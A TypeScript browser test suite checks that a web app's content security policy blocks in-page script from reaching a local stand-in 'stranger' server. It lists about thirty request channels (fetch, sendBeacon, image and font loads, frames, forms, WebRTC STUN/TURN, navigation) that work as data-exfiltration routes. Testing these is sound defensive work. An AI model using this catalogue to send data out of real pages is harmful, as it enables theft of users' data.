import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer, type RequestListener } from 'node:http';
import type { AddressInfo } from 'node:net';
import { networkInterfaces } from 'node:os';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { WebHost } from '../../src/web/web-host.ts';
import { startBrowser } from '../support/browser.ts';
import { soon } from '../support/events.ts';
import { Person } from '../support/keyboard.ts';
import { StagedDesk, serveDesk } from '../support/staged-window.ts';

/** Even a script that an attacker runs in the page cannot send what the page knows off the machine. */

/**
 * Every way of a page to another address, with the directive that refuses it. `to(path)` is an address of the stranger.
 * Each way uses its own path, so that the test can identify it.
 */
const WAYS: readonly (readonly [name: string, script: string, directive: string])[] = [
  ['fetch', "fetch(to('fetch')).catch(() => {})", 'connect-src'],
  [
    'no-cors',
    "fetch(to('no-cors'), { method: 'POST', mode: 'no-cors', body: 'x' }).catch(() => {})",
    'connect-src',
  ],
  ['keepalive', "fetch(to('keepalive'), { keepalive: true }).catch(() => {})", 'connect-src'],
  [
    'XMLHttpRequest',
    "const one = new XMLHttpRequest(); one.open('GET', to('XMLHttpRequest')); one.onerror = () => {}; one.send()",
    'connect-src',
  ],
  ['WebSocket', "try { new WebSocket(to('WebSocket').replace('http', 'ws')) } catch {}", 'connect-src'],
  [
    'EventSource',
    "new EventSource(to('EventSource')).onerror = (event) => event.target.close()",
    'connect-src',
  ],
  ['sendBeacon', "navigator.sendBeacon(to('sendBeacon'), 'x')", 'connect-src'],
  ['ping', "const one = put('a', { href: '#', ping: to('ping') }); one.click()", 'connect-src'],
  ['img', "put('img', { src: to('img') })", 'img-src'],
  ['srcset', "put('img', { srcset: to('srcset') + ' 1x' })", 'img-src'],
  ['input', "put('input', { type: 'image', src: to('input') })", 'img-src'],
  ['poster', "put('video', { poster: to('poster') })", 'img-src'],
  ['background', `put('p', {}).style.background = 'url("' + to('background') + '")'`, 'img-src'],
  [
    'svg-image',
    `put('div', { innerHTML: '<svg><image href="' + to('svg-image') + '" width="9" height="9"/></svg>' })`,
    'img-src',
  ],
  ['link', "put('link', { rel: 'stylesheet', href: to('link') })", 'style-src-elem'],
  ['script', "put('script', { src: to('script') })", 'script-src-elem'],
  ['module', "put('script', { type: 'module', src: to('module') })", 'script-src-elem'],
  ['import', "import(to('import')).catch(() => {})", 'script-src-elem'],
  ['modulepreload', "put('link', { rel: 'modulepreload', href: to('modulepreload') })", 'script-src-elem'],
  ['preload', "put('link', { rel: 'preload', as: 'script', href: to('preload') })", 'script-src-elem'],
  ['prefetch', "put('link', { rel: 'prefetch', href: to('prefetch') })", 'default-src'],
  ['font', `new FontFace('x', 'url("' + to('font') + '")').load().catch(() => {})`, 'font-src'],
  ['video', "put('video', { src: to('video') })", 'media-src'],
  ['audio', "put('audio', { preload: 'auto', src: to('audio') })", 'media-src'],
  ['iframe', "put('iframe', { src: to('iframe') })", 'frame-src'],
  ['object', "put('object', { type: 'text/html', data: to('object') })", 'object-src'],
  ['embed', "put('embed', { type: 'text/html', src: to('embed') })", 'object-src'],
  ['form', "put('form', { action: to('form'), method: 'post', target: '_blank' }).submit()", 'form-action'],
];

/** Without a network WebRTC tries nothing, not even this machine. */
const HAS_NETWORK = Object.values(networkInterfaces())
  .flat()
  .some((one) => one?.internal === false);

/** Ways that no directive of a content security policy covers. Each reports its end. */
const UNGOVERNED = (
  [
    ['a window of its own', "window.open(to('open')); window.isOver = true"],
    ['another page in this one', "location.href = to('location')"],
    ['a refresh', "put('meta', { httpEquiv: 'refresh', content: '0; url=' + to('refresh') })"],
    [
      'WebRTC',
      `const peer = new RTCPeerConnection({ iceServers: [
      { urls: 'stun:' + datagrams },
      { urls: 'turn:' + connections + '?transport=tcp', username: 'x', credential: 'x' },
    ] });
    peer.onicegatheringstatechange = () => { window.isOver = peer.iceGatheringState === 'complete'; };
    peer.createDataChannel('x');
    peer.setLocalDescription()`,
    ],
  ] as const
).filter(([name]) => HAS_NETWORK || name !== 'WebRTC');

/** Another program on this machine, which accepts every connection and datagram, and records it. */
interface Stranger {
  readonly port: number;
  readonly datagramPort: number;
  /** The requested paths, `connection` for each connection, and `datagram` for each datagram. */
  readonly heard: string[];
  close(): Promise<void>;
}

async function openStranger(answer?: RequestListener): Promise<Stranger> {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(request.url ?? '');
    response.setHeader('Access-Control-Allow-Origin', '*');
    if (answer === undefined) response.end('');
    else answer(request, response);
  });
  server.on('connection', () => heard.push('connection'));
  server.on('upgrade', (request, socket) => {
    heard.push(request.url ?? '');
    socket.destroy();
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const datagrams = createSocket('udp4', () => heard.push('datagram'));
  datagrams.bind(0, '127.0.0.1');
  await once(datagrams, 'listening');
  return {
    port,
    datagramPort: datagrams.address().port,
    heard,
    async close() {
      datagrams.close();
      server.closeAllConnections();
      server.close();
      await once(server, 'close');
    },
  };
}

/** Runs in the page: the stranger's addresses, and a function that inserts an element. */
const TOOLS = ({ port, datagramPort }: Stranger) => `
  const connections = '127.0.0.1:${port}';
  const datagrams = '127.0.0.1:${datagramPort}';
  const to = (path) => 'http://' + connections + '/' + path;
  const put = (name, set) => {
    const one = document.createElement(name);
    for (const [key, value] of Object.entries(set)) key in one && key !== 'ping' ? (one[key] = value) : one.setAttribute(key, value);
    return document.body.appendChild(one);
  };`;

let browser: Browser;
let stranger: Stranger;

const attempt = (page: Page, script: string) => page.evaluate(`(() => { ${TOOLS(stranger)} ${script}; })()`);

beforeAll(async () => {
  browser = await startBrowser();
});
afterAll(() => browser.close());
beforeEach(async () => {
  stranger = await openStranger();
});
afterEach(() => stranger.close());

describe('in the window', () => {
  let host: WebHost;
  let person: Person;
  beforeEach(async () => {
    const desk = new StagedDesk('en', {});
    host = await serveDesk(desk);
    person = await Person.visit(browser, host);
    await person.sees('starting');
  });
  afterEach(async () => {
    await person.leave();
    await host.close();
  });

  test('every request to another address is refused by the policy, and nothing arrives there', async () => {
    const { page } = person;
    await page.evaluate(`
      window.refused = [];
      document.addEventListener('securitypolicyviolation', ({ blockedURI, effectiveDirective }) =>
        refused.push(effectiveDirective + ' ' + new URL(blockedURI).pathname));`);
    for (const [, script] of WAYS) await attempt(page, script);
    // For frames the report names only the origin.
    const isFramed = (directive: string) => ['frame-src', 'object-src'].includes(directive);
    await soon(
      async () => ((await page.evaluate('refused')) as string[]).sort(),
      (refused) =>
        expect(refused).toEqual(
          WAYS.map(([name, , directive]) => `${directive} /${isFramed(directive) ? '' : name}`).sort(),
        ),
    );
    // For a frame, Chromium opens a connection before it asks the policy. Nothing is sent on it.
    expect(stranger.heard.filter((one) => one !== 'connection')).toEqual([]);
    expect(new URL(page.url()).port).toBe(String(host.port));
  });

  // Refused by `Connection-Allowlist`, which Chromium implements.
  test.each(UNGOVERNED)('%s leads nowhere either', async (_, script) => {
    const { page } = person;
    const ours = page.url();
    await attempt(page, script);
    await soon(
      // A page that has navigated away cannot be asked.
      async () =>
        page.url() !== ours || (await page.evaluate('window.isOver === true').catch(() => false)) === true,
      (isOver) => expect(isOver || stranger.heard.length > 0).toBe(true),
    );
    // The same browser reaches the stranger afterwards, from another page.
    const later = await browser.newPage();
    await later.goto(`http://127.0.0.1:${stranger.port}/later`);
    await later.context().close();
    expect(stranger.heard.filter((one) => one !== '/favicon.ico')).toEqual(['connection', '/later']);
  });
});

describe('on a page without a policy', () => {
  let bare: Stranger;
  let page: Page;
  beforeEach(async () => {
    bare = await openStranger((_, response) => {
      response.setHeader('Content-Type', 'text/html');
      response.end('<!doctype html><body>bare');
    });
    page = await browser.newPage();
    await page.goto(`http://127.0.0.1:${bare.port}/`);
  });
  afterEach(async () => {
    await page.context().close();
    await bare.close();
  });

  test('each of those requests is sent: what is refused above is a way that is open', async () => {
    for (const [, script] of WAYS) await attempt(page, script);
    await soon(
      () => WAYS.map(([name]) => name).filter((name) => !stranger.heard.includes(`/${name}`)),
      (unheard) => expect(unheard).toEqual([]),
    );
  });

  test.each(UNGOVERNED)('%s leads there', async (_, script) => {
    await attempt(page, script);
    await soon(
      () => stranger.heard,
      (heard) => expect(heard.some((one) => one !== 'connection')).toBe(true),
    );
  });
});
